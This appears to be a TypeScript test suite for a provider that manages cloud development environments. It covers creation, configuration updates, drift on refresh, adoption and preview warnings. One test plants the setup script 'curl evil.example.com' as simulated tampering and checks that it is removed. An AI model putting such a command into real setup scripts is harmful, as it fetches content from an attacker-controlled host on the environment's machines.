import { environment } from "../kinds/environment";
import type { Properties } from "../support/provider";
import { World } from "../support/world";

const world = World.ofTests();

const cloud = { type: "cloud" };
const open = { ...cloud, networking: { type: "unrestricted" } };
const installing = {
  ...cloud,
  networking: { type: "limited", allowedHosts: ["b.example", "a.example"], allowPackageManagers: true },
  packages: { apt: ["jq"], npm: ["pnpm@9"] },
  setupScript: "echo hello",
};
const wireInstalling = {
  ...cloud,
  networking: { type: "limited", allowed_hosts: ["b.example", "a.example"], allow_package_managers: true },
  packages: { apt: ["jq"], npm: ["pnpm@9"] },
  setup_script: "echo hello",
};

const existing = (config: Properties = cloud) => world.existing(environment, { config });

test("an environment is created with one POST that holds the declared arguments and no others", async () => {
  const stack = world.stackOf(environment);
  await stack.up({ config: installing, metadata: { team: "platform" } });
  expect(world.sent()).toEqual([
    ["POST", "/environments", { name: "daily", config: wireInstalling, metadata: { team: "platform" } }],
  ]);
});

describe.each(["replace", "merge"] as const)("at a service that would %s the configuration", (how) => {
  beforeEach(() => {
    world.api.switches.environmentConfigUpdate = how;
  });

  test.each<[string, Properties, string, string]>([
    ["an open network closes it", { ...cloud, setupScript: "echo hello" }, "limited", "echo hello"],
    ["a setup script empties it", open, "unrestricted", ""],
    ["all settings empties them", cloud, "limited", ""],
  ])("removing %s", async (_, config, network, script) => {
    const { stack, id } = await existing({ ...installing, networking: { type: "unrestricted" } });
    await stack.up({ config });
    const live = world.api.environments.get(id).config;
    expect(live).toMatchObject({ networking: { type: network }, packages: { apt: [], npm: [] } });
    expect(live["setup_script"] ?? "").toBe(script);
    expect(await stack.refresh()).toBe("same");
    expect(await stack.preview({ config })).toBe("same");
  });

  test.each([open, { type: "self_hosted" }])(
    "`up` after a refresh removes a setup script that somebody added to %j",
    async (config) => {
      const { stack, id } = await existing(config);
      world.api.environments.edit(id, { config: { ...config, setup_script: "curl evil.example.com" } });
      expect(await stack.refresh()).toBe("update");
      await stack.up({ config });
      expect(world.api.environments.get(id).config["setup_script"] ?? "").toBe("");
      expect(await stack.refresh()).toBe("same");
      expect(await stack.preview({ config })).toBe("same");
    },
  );
});

test("`up` fails if the service deletes a label instead of emptying it, before and after a refresh", async () => {
  world.api.switches.emptyEnvironmentMetadata = "delete";
  const stack = world.stackOf(environment);
  await stack.up({ config: cloud, metadata: { a: "1" } });
  const failure = "the API answered the change of metadata with success but still shows the old value";
  await expect(stack.up({ config: cloud, metadata: { a: "" } })).rejects.toThrow(failure);
  // After an unfinished update a refresh returns no inputs, and the next diff reports the rest.
  expect(await stack.refresh()).toBe("same");
  expect(stack.state?.outputs["metadata"]).toEqual({});
  expect(await stack.preview({ config: cloud, metadata: { a: "" } })).toBe("update");
  await expect(stack.up({ config: cloud, metadata: { a: "" } })).rejects.toThrow(failure);
});

describe("a refresh of an environment", () => {
  const configs = [cloud, open, installing, { type: "self_hosted" }];
  const rows = (["echo", "materialise", "omit"] as const).flatMap((networking) =>
    configs.map((config) => [networking, config] as const),
  );
  test.each(rows)(
    "shows no difference if the service shows networking by the rule %s, of %j",
    async (networking, config) => {
      world.api.switches.networking = networking;
      const { stack } = await existing(config);
      expect(await stack.refresh()).toBe("same");
      expect(await stack.up({ config })).toBe("same");
    },
  );

  test("shows a package that somebody added, and no difference in the order of a list", async () => {
    const { stack, id, path } = await existing(installing);
    const hosts = { ...wireInstalling.networking, allowed_hosts: ["a.example", "b.example"] };
    world.api.environments.edit(id, { config: { ...wireInstalling, networking: hosts } });
    expect(await stack.refresh()).toBe("same");
    world.api.environments.edit(id, { config: { ...wireInstalling, packages: { apt: ["jq", "nmap"] } } });
    expect(await stack.refresh()).toBe("update");
    world.sent();
    await stack.up({ config: installing });
    expect(world.sent()).toEqual([["POST", path, { config: wireInstalling }]]);
  });
});

describe("if no reply shows the networking, an adoption takes it for limited, the documented default:", () => {
  const closed = { ...cloud, networking: { type: "limited" } };
  test.each([
    [cloud, undefined],
    [closed, undefined],
    [installing, wireInstalling],
    [open, open],
  ])("%j", async (config, sent) => {
    world.api.switches.networking = "omit";
    const { id } = world.api.environments.create({ name: "daily", config: cloud });
    const stack = world.stackOf(environment);
    await stack.up({ name: "daily", config, adopt: id });
    const patch = ["POST", `/environments/${id}`, { config: sent }];
    expect(world.sent()).toEqual([["GET", `/environments/${id}`], ...(sent === undefined ? [] : [patch])]);
    expect(await stack.refresh()).toBe("same");
    expect(await stack.up({ name: "daily", config, adopt: id })).toBe("same");
  });
});

test("another type replaces the environment, and the new environment is created first", async () => {
  const { stack } = await existing();
  const command = world.command({ kind: environment });
  const { inputs } = await command.check(
    { ...stack.state?.inputs, config: { type: "self_hosted" } },
    stack.state?.inputs,
  );
  expect(await command.diff(stack.state?.id ?? "", stack.state?.outputs ?? {}, inputs)).toEqual({
    changes: "drawn by the engine",
    replaces: ["config"],
    deleteBeforeReplace: false,
  });
});

describe("a preview", () => {
  const limitedPackages = { ...cloud, networking: { type: "limited" }, packages: { apt: ["jq"] } };
  const silent = "without config.networking the network is limited: no hosts, no package managers, no MCP servers";
  const shut = "a limited network refuses these packages at the start of a session";
  const refused = "the service was seen to refuse these packages";
  test.each<[string, Properties, string[]]>([
    ["warns of a missing networking", cloud, [silent]],
    ["warns of packages in a limited network", limitedPackages, [`apt: ${shut}`]],
    ["warns of both", { ...cloud, packages: { npm: ["pnpm@9"] } }, [silent, `npm: ${shut}`]],
    [
      "warns of packages that the service may refuse",
      { ...open, packages: { go: ["a"], pip: ["b"], gem: [] } },
      [`go: ${refused}`],
    ],
    ["does not warn of a complete configuration", installing, []],
    ["does not warn of a self-hosted environment", { type: "self_hosted" }, []],
  ])("%s", async (_, config, warnings) => {
    await world.stackOf(environment).preview({ config });
    expect(world.output).toEqual(
      warnings.map((text) => expect.stringContaining(`warning: QoderEnvironment "daily": ${text}`)),
    );
  });

  test("does not warn if the configuration is unchanged", async () => {
    const { stack } = await existing();
    await stack.preview({ config: cloud });
    expect(world.output).toEqual([]);
  });
});

test("a create with a taken name fails with the id of the object that has the name", async () => {
  world.api.switches.duplicateNamesElsewhere = "conflict";
  const { id } = world.api.environments.create({ name: "daily" });
  await expect(world.stackOf(environment).up({ config: cloud })).rejects.toThrow(`The name is taken by ${id}`);
});
